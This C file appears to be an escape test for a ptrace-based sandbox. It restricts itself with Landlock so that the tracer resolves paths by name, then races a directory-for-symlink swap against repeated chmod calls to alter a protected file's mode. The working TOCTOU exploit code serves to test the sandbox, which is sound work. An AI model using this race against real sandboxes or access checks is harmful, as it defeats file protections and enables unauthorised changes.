/*
 * Vector 2: the directory-swap race of esc_dir_swap_chmod, after the tracee
 * made itself a Landlock domain that restricts nothing it needs (it handles
 * only LANDLOCK_ACCESS_FS_MAKE_BLOCK). A Landlock'd process may not follow
 * the tracer's fd links, so the tracer stops anchoring its path calls
 * (tracer/anchor.c tracee_may_follow) and pins them by resolved name, where
 * a directory swapped for a symlink after the decision still redirects
 * them. landlock_restrict_self is allowed ("only restricts the tracee").
 * success = protected/victim.txt's mode changed.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>
#include <sys/prctl.h>
#include <sys/stat.h>

#ifndef LANDLOCK_ACCESS_FS_MAKE_BLOCK
#define LANDLOCK_ACCESS_FS_MAKE_BLOCK (1ULL << 11)
#endif
#ifndef SYS_landlock_create_ruleset
#define SYS_landlock_create_ruleset 444
#define SYS_landlock_restrict_self 446
#endif

static atomic_bool stop;
static char d[4096], lnk[4096];

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		renameat2(AT_FDCWD, lnk, AT_FDCWD, d, RENAME_EXCHANGE);
	return NULL;
}

static void landlock_self(void)
{
	struct {
		uint64_t handled_access_fs;
	} attr = { LANDLOCK_ACCESS_FS_MAKE_BLOCK };
	int rs = (int)syscall(SYS_landlock_create_ruleset, &attr, sizeof(attr), 0);

	if (rs < 0)
		esc_skip("landlock_create_ruleset: %s", strerror(errno));
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		esc_broken("no_new_privs: %s", strerror(errno));
	if (syscall(SYS_landlock_restrict_self, rs, 0) < 0)
		esc_broken("landlock_restrict_self: %s", strerror(errno));
	close(rs);
}

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	struct stat st;
	mode_t before;

	landlock_self();
	snprintf(d, sizeof(d), "%s/d", esc_work());
	snprintf(lnk, sizeof(lnk), "%s/linkdir", esc_work());
	if (stat(victim, &st) < 0)
		esc_broken("stat %s: %s", victim, strerror(errno));
	before = st.st_mode & 07777;
	if (mkdir(d, 0755) < 0)
		esc_broken("mkdir: %s", strerror(errno));
	int fd = open(esc_fmt("%s/victim.txt", d), O_WRONLY | O_CREAT, 0644);
	if (fd < 0)
		esc_broken("decoy");
	close(fd);
	if (symlink(esc_protected(), lnk) < 0)
		esc_blocked("symlink: %s", strerror(errno));
	pthread_t t;
	pthread_create(&t, NULL, swapper, NULL);
	const char *target = esc_fmt("%s/victim.txt", d);
	double end = esc_now() + 5;
	long tries = 0;
	mode_t m = before ^ 0100;
	while (esc_now() < end) {
		tries++;
		chmod(target, m);
		if (stat(victim, &st) == 0 && (st.st_mode & 07777) != before) {
			atomic_store(&stop, true);
			esc_success("chmod reached protected/victim.txt through a swapped directory after %ld tries (Landlock'd)", tries);
		}
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("protected/victim.txt kept its mode in %ld tries", tries);
}
